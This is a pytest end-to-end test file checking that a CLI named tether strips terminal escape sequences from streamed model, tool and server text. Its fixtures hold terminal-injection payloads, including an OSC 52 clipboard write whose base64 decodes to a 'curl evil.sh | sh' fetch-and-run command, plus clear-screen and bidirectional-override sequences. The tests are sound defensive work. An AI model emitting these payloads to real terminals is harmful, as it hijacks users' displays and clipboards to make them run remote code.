"""Model, tool and server text reaches the terminal cleaned, by one function
(render.clean), in the live view of `run` as in `tail` (issue 13, item 8).

The fake model streams, in small pieces, what a hostile or confused model might
write: clear screen, concealed text, an OSC 52 clipboard write, a bell, a C1
control sequence and a bidirectional override. The real CLI prints the run to a
pipe and to a real pseudo-terminal; none of those bytes may come out, while the
words around them do.
"""

from __future__ import annotations

import os
import pty
import select
import subprocess

import pytest
from e2e import TETHER, run
from fakeapi import FakeAPI, error, text, tool_use

from tether.core.exit_codes import ExitCode

HOSTILE = (
    "Start.\x1b[2J\x1b[H cleared \x1b[8mhidden words\x1b[0m "
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 clip \x9b31m c1 \u202eevil\u202c end."
)
BAD = ("\x1b", "\x07", "\x9b", "\u202e", "\u202c")
WORDS = ("Start.", "cleared", "hidden words", "clip", "c1", "evil", "end.")


def assert_clean(output: str) -> None:
    for byte in BAD:
        assert byte not in output, f"{byte!r} reached the terminal: {output!r}"
    for word in WORDS:
        assert word in output, f"{word!r} is missing: {output!r}"


def on_a_terminal(args: list[str], env: dict[str, str], timeout: float = 60) -> tuple[int, str]:
    """The real CLI with a pseudo-terminal as stdin, stdout and stderr; what it printed."""
    main, secondary = pty.openpty()
    process = subprocess.Popen(
        [*TETHER, *args], env=env | {"TERM": "xterm-256color"}, stdin=secondary,
        stdout=secondary, stderr=secondary, close_fds=True,
    )  # fmt: skip
    os.close(secondary)
    chunks = []
    while True:
        ready, _, _ = select.select([main], [], [], timeout)
        if not ready:
            process.kill()
            break
        try:
            chunk = os.read(main, 65536)
        except OSError:  # EIO: every writer has closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(main)
    return process.wait(timeout=30), b"".join(chunks).decode(errors="replace")


def test_the_live_view_cleans_streamed_model_text(api: FakeAPI, env: dict[str, str]) -> None:
    api.add(text(HOSTILE, chunk_chars=3))
    done = run(["run", "hello"], env)
    assert done.returncode == 0, done.stderr
    assert_clean(done.stdout)


def test_the_live_view_on_stderr_of_a_json_run_is_cleaned(
    api: FakeAPI, env: dict[str, str]
) -> None:
    api.add(text(HOSTILE, chunk_chars=5))
    done = run(["run", "--json", "hello"], env)
    assert done.returncode == 0, done.stderr
    assert_clean(done.stderr)


def test_a_terminal_gets_none_of_the_models_escape_sequences(
    api: FakeAPI, env: dict[str, str]
) -> None:
    api.add(text(HOSTILE, chunk_chars=4))
    code, output = on_a_terminal(["run", "hello"], env)
    assert code == 0, output
    for sequence in ("\x1b[2J", "\x1b[H", "\x1b[8m", "\x1b]52", "\x07", "\x9b", "\u202e"):
        assert sequence not in output, f"{sequence!r} reached the terminal"
    for word in WORDS:
        assert word in output
    code, output = on_a_terminal(["tail", "--last", "-n", "20"], env)
    assert code == 0 and "\x1b[2J" not in output and "\x1b]52" not in output


@pytest.mark.docker
def test_tool_output_in_the_live_view_is_cleaned(
    api: FakeAPI, env: dict[str, str], docker_client: object
) -> None:
    command = "printf 'Start.\\033[2J cleared \\033]52;c;eA==\\007 clip\\n'"
    api.add(tool_use("bash", {"command": command}), text("end."))
    done = run(["run", "hello"], env)
    assert done.returncode == 0, done.stderr
    for byte in BAD:
        assert byte not in done.stdout
    assert "cleared" in done.stdout and "clip" in done.stdout


def test_an_error_message_is_shown_literally_and_cleaned(api: FakeAPI, env: dict[str, str]) -> None:
    """A server's message is neither markup ([/] would crash rich) nor escape codes."""
    api.add(error(403, message="denied [bold]not bold[/] [/] \x1b]52;c;eA==\x07 \x1b[2J done"))
    done = run(["run", "hello"], env)
    assert done.returncode == ExitCode.AUTH, done.stderr
    line = next(line for line in done.stderr.splitlines() if line.startswith("error:"))
    assert "Traceback" not in done.stderr and "unexpected" not in line
    assert "[bold]not bold[/] [/]" in line and "done" in line
    for byte in BAD:
        assert byte not in done.stderr
